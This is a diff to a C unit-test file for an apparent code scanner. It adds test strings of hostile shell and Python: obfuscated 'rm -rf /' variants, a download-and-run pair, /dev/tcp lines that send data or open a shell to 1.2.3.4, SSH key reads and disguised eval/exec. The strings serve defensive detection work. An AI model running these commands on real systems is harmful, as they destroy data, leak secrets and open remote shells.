@@ -184,6 +184,8 @@ static const struct {
 	  "py-subprocess-destroy" },
 	{ "import os\nopen(os.environ['HOME'] + '/.ssh/id_rsa')\n", "py-secret-file" },
 	{ "import os, stat\nos.chmod('x', stat.S_ISUID | 0o755)\n", "py-chmod-setuid" },
+	{ "dict(vars(__builtins__))['exec']('x')\n", "py-exec" },
+	{ "p = ['ev', 'al']\ngetattr(__builtins__, ''.join(p))('x')\n", "py-eval" },
 };
 
 static void hidden_names_are_found(void **state)
@@ -283,6 +285,29 @@ static const struct {
 	{ "python3 -c 'import os; os.system(\"x\")'\n", "py-os-system" },
 	{ "python3 <<X\neval('x')\nX\n", "py-eval" },
 	{ "exec 3<>/dev/tcp/1.2.3.4/80\n", "sh-dev-tcp" },
+	{ "wget -q https://x.test/i.sh -P /tmp\nsh /tmp/i.sh\n", "sh-download-run" },
+	{ "shopt -s extglob\nrm -rf /!(proc)\n", "sh-rm-root" },
+	{ "shopt -s extglob\ncd /; rm -rf !(proc|sys)\n", "sh-rm-here" },
+	{ "# extglob\nls +(a)\nif !(reboot); then :; fi\n", "sh-shutdown" },
+	{ "$(which rm) -rf /\n", "sh-rm-root" },
+	{ "`command -v rm` -rf /\n", "sh-rm-root" },
+	{ "declare -n r=t\nt=/\nrm -rf $r\n", "sh-rm-root" },
+	{ "declare -n c=x\nx='rm -rf /'\n$c\n", "sh-rm-root" },
+	{ "v=/tmp\nv=${v%tmp}\nrm -rf $v\n", "sh-rm-root" },
+	{ "v=r\nv=\"${v}m\"\n$v -rf /\n", "sh-rm-root" },
+	{ ": ${T:=/}\nrm -rf $T\n", "sh-rm-root" },
+	{ "rm -rf \"${T:=/}\"\n", "sh-rm-root" },
+	{ "make -f - <<'X'\nall:\n\t@rm -rf /\nX\n", "sh-rm-root" },
+	{ "make -f- x <<X\nx:\n\trm -rf /\nX\n", "sh-rm-root" },
+	{ "make --file=/dev/stdin <<X\nx:\n\trm -rf /\nX\n", "sh-rm-root" },
+	{ "printf 'all:\\n\\trm -rf /\\n' | make -f -\n", "sh-rm-root" },
+	{ "cat > Makefile <<X\nall:\n\trm -rf /\nX\nmake\n", "sh-rm-root" },
+	{ "cat > b.mk <<X\nall:\n\t-rm -rf /\nX\nmake -sf b.mk all\n", "sh-rm-root" },
+	{ "tee x.sh <<< 'rm -rf ~' >/dev/null\n. ./x.sh\n", "sh-rm-root" },
+	{ "c=\"$(<payload)\"\n$c\n", "sh-hidden-command" },
+	{ "rm -rf /???\n", "sh-rm-root" },
+	{ "echo \"$x\" > /dev/tcp/1.2.3.4/80\n", "sh-dev-tcp" },
+	{ "cat /etc/hosts > /dev/tcp/1.2.3.4/80\n", "sh-dev-tcp" },
 	{ "0<&196;exec 196<>/dev/tcp/1.2.3.4/80; sh <&196 >&196 2>&196\n", "sh-dev-tcp" },
 };
 
@@ -336,6 +361,28 @@ static void what_is_followed_is_not_guessed(void **state)
 	assert_int_equal(worst("import os\nold = os.umask(0)\nos.umask(old)\n", BJ_LANG_PYTHON),
 			 -1);
 	assert_int_equal(worst("x=/etc/app.conf\nrm -f \"${x%.conf}.bak\"\n", BJ_LANG_BASH), -1);
+	assert_int_equal(
+		worst("printf 'clean:\\n\\trm -rf $(OUT)/x build\\n' | make -f -\n", BJ_LANG_BASH),
+		-1);
+	assert_int_equal(worst("cat > Makefile <<'X'\nclean:\n\trm -rf $(OUT)/* build\nX\nmake\n",
+			       BJ_LANG_BASH),
+			 -1);
+	assert_int_equal(worst("p=/srv/app/x\np=${p%/*}\nrm -rf \"$p/cache\"\n", BJ_LANG_BASH), -1);
+	assert_int_equal(worst("f() { local -n out=$1; out=$(date); }\nf now\n", BJ_LANG_BASH), -1);
+	assert_int_equal(worst("bash -c \"</dev/tcp/$host/$port\" && echo up\n", BJ_LANG_BASH),
+			 BJ_SEV_MEDIUM);
+	assert_int_equal(worst("cat < /dev/null > /dev/tcp/db/5432\n", BJ_LANG_BASH),
+			 BJ_SEV_MEDIUM);
+	assert_int_equal(
+		worst("shopt -s extglob\nrm -v !(*.jpg|*.gif)\nls +([0-9]).txt \"$d\"/@(a|b)*\n",
+		      BJ_LANG_BASH),
+		-1);
+	assert_int_equal(worst("</dev/tcp/db/5432\n", BJ_LANG_BASH), BJ_SEV_MEDIUM);
+	assert_int_equal(worst("until echo > /dev/tcp/db/5432; do sleep 1; done\n", BJ_LANG_BASH),
+			 BJ_SEV_MEDIUM);
+	assert_int_equal(
+		worst("bash -c '</dev/tcp/db/5432' 2>/dev/null && echo up\n", BJ_LANG_BASH),
+		BJ_SEV_MEDIUM);
 	assert_int_equal(worst("set -- /\nf() { rm -rf \"$1\"; }\nf build\n", BJ_LANG_BASH), -1);
 	/* A name that a function imports is its own, on every way through it. */
 	assert_int_equal(worst("def f(x):\n    if x:\n        from a import eval\n"
@@ -385,6 +432,19 @@ static void nested_text_has_a_ceiling(void **state)
 
 /* A row of commands, each with all words of a loop, is not read to its end; loops that share words
  * and a variable cost no more than one. */
+/* Of a makefile with more lines than are read, the first are. */
+static void recipes_have_a_ceiling(void **state)
+{
+	AUTO_BUF struct bj_buf text = { 0 };
+
+	(void)state;
+	bj_buf_puts(&text, "cat > Makefile <<'X'\na:\n\trm -rf /\n");
+	for (size_t i = 0; i < 20000; i++)
+		bj_buf_puts(&text, "\tls\n");
+	bj_buf_puts(&text, "X\nmake\n");
+	assert_true(finds(text.data, BJ_LANG_BASH, "sh-rm-root"));
+}
+
 static void words_of_loops_have_a_ceiling(void **state)
 {
 	AUTO_BUF struct bj_buf text = { 0 };
@@ -614,6 +674,7 @@ int main(void)
 		cmocka_unit_test(words_in_text_are_not_calls),
 		cmocka_unit_test(gaps_of_the_grammar_are_mended),
 		cmocka_unit_test(nested_text_has_a_ceiling),
+		cmocka_unit_test(recipes_have_a_ceiling),
 		cmocka_unit_test(words_of_loops_have_a_ceiling),
 		cmocka_unit_test(open_documents_have_a_ceiling),
 		cmocka_unit_test(giving_up_is_a_finding),
